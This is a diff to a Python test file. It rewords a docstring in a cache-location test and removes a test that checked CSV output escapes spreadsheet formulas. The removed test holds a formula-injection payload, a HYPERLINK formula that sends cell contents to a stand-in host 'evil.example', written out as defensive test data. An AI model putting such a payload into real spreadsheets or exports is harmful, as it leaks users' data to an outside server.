@@ -289,28 +289,13 @@ def run_progress() -> object:
 
 
 def test_the_cache_is_never_in_the_folder_that_all_share(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Without a home, too: another user could have laid it out."""
+    """Without these variables, too: another user could have laid it out."""
     for name in ("MODELZOO_HOME", "HOME", "XDG_CACHE_HOME"):
         monkeypatch.delenv(name, raising=False)
     assert not environment.cache_folder().is_relative_to(tempfile.gettempdir())
 
 
 # What is written
-
-
-def test_a_table_holds_no_formulas(tmp_path: Path) -> None:
-    """A spreadsheet computes what begins so, and may ask other servers; numbers stay numbers."""
-    evil = '=HYPERLINK("https://evil.example?"&A1)'
-    rows = [{"name": evil, evil: -0.5}, {"name": "@SUM(1)", evil: 1}, {"name": "a,b"}]
-    files.write_csv(tmp_path / "t.csv", ["name", evil], rows)
-    lines = (tmp_path / "t.csv").read_text().splitlines()
-    quoted = evil.replace('"', '""')
-    assert lines == [
-        f'name,"\'{quoted}"',
-        f'"\'{quoted}",-0.5',
-        "'@SUM(1),1",
-        '"a,b",',
-    ]
 
 
 def test_the_password_in_an_address_is_not_written_down(
